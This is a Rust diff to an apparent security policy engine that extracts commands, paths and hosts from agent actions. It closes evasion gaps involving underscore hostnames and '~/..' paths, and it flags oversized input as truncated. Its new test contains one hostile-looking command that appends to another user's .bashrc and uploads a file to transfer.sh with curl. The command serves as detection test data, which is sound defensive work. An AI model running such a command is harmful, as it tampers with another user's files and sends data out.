@@ -32,7 +32,7 @@ const COMMAND_KEYS: &[&str] = &["command", "cmd"];
 const URL_KEYS: &[&str] = &["url", "uri"];
 
 static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/\s'\x22@]*@)?([a-z0-9.-]+|\[[0-9a-f:.]+\])")
+    Regex::new(r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/\s'\x22@]*@)?([a-z0-9._-]+|\[[0-9a-f:.]+\])")
         .unwrap()
 });
 
@@ -48,6 +48,9 @@ pub struct Facts {
     pub hosts: Vec<String>,
     pub mcp_server: Option<String>,
     pub mcp_tool: Option<String>,
+    /// Part of the action was too large to inspect (a command over 64 KB, more path-like words
+    /// than are examined): policy must not treat it as clean.
+    pub truncated: bool,
 }
 
 impl Facts {
@@ -80,7 +83,7 @@ impl Facts {
 
         if let Some(target) = &event.target {
             match event.action_type {
-                ActionType::ProcessExec => facts.commands.push(clip(target)),
+                ActionType::ProcessExec => facts.commands.push(clip(target, &mut facts.truncated)),
                 ActionType::FileRead
                 | ActionType::FileWrite
                 | ActionType::FileDelete
@@ -92,10 +95,14 @@ impl Facts {
         if let Value::Object(args) = &event.arguments {
             for key in COMMAND_KEYS {
                 match args.get(*key) {
-                    Some(Value::String(command)) => facts.commands.push(clip(command)),
+                    Some(Value::String(command)) => {
+                        facts.commands.push(clip(command, &mut facts.truncated))
+                    }
                     Some(Value::Array(argv)) => {
                         let words: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
-                        facts.commands.push(clip(&words.join(" ")));
+                        facts
+                            .commands
+                            .push(clip(&words.join(" "), &mut facts.truncated));
                     }
                     _ => {}
                 }
@@ -121,7 +128,11 @@ impl Facts {
         facts.commands.extend(dequoted);
         for command in &facts.commands {
             push_hosts(&mut facts.hosts, command);
-            for token in command_path_tokens(command) {
+            for (index, token) in command_path_tokens(command).enumerate() {
+                if index == MAX_COMMAND_TOKENS {
+                    facts.truncated = true;
+                    break;
+                }
                 paths.push(&mut facts.paths, &token);
             }
         }
@@ -141,10 +152,11 @@ fn strings_of(value: Option<&Value>) -> Vec<&str> {
     }
 }
 
-fn clip(text: &str) -> String {
+fn clip(text: &str, truncated: &mut bool) -> String {
     if text.len() <= MAX_COMMAND_BYTES {
         return text.to_string();
     }
+    *truncated = true;
     let mut end = MAX_COMMAND_BYTES;
     while !text.is_char_boundary(end) {
         end -= 1;
@@ -178,7 +190,6 @@ pub fn command_path_tokens(command: &str) -> impl Iterator<Item = String> + '_ {
         .map(|word| word.trim_matches(|c| matches!(c, '{' | '}')).to_string())
         .filter(|word| word.contains('/') || word.starts_with('~') || word.starts_with('.'))
         .filter(|word| !word.contains("://"))
-        .take(MAX_COMMAND_TOKENS)
 }
 
 /// Shell quote removal: drops `'`, `"` and escaping backslashes.
@@ -212,7 +223,16 @@ impl PathNormalizer<'_> {
         let written = expanded.as_deref().unwrap_or(raw);
         out.push(written.to_string());
 
-        let absolute = if written.starts_with('/') || written.starts_with('~') {
+        let home_dir = self.home.trim_end_matches('/');
+        let absolute = if let (Some(rest), false) = (written.strip_prefix('~'), home_dir.is_empty())
+        {
+            // `~/../ana/.bashrc` climbs out of the home directory: expand before resolving `..`.
+            if rest.is_empty() || rest.starts_with('/') {
+                normalize(&format!("{home_dir}{rest}"))
+            } else {
+                normalize(written)
+            }
+        } else if written.starts_with('/') || written.starts_with('~') {
             normalize(written)
         } else if !self.cwd.is_empty() {
             normalize(&format!("{}/{}", self.cwd, written))
@@ -334,6 +354,24 @@ mod tests {
             "{:?}",
             facts.paths
         );
+    }
+
+    #[test]
+    fn tilde_dot_dot_and_underscore_hosts_resolve() {
+        let facts = Facts::from_event(&shell(
+            "echo x >> ~/../bob/.bashrc; curl -T f https://a_b.transfer.sh/",
+        ));
+        assert!(
+            facts.paths.contains(&"/home/bob/.bashrc".to_string()),
+            "{:?}",
+            facts.paths
+        );
+        assert!(
+            !facts.paths.contains(&"~/bob/.bashrc".to_string()),
+            "{:?}",
+            facts.paths
+        );
+        assert_eq!(facts.hosts, vec!["a_b.transfer.sh".to_string()]);
     }
 
     #[test]
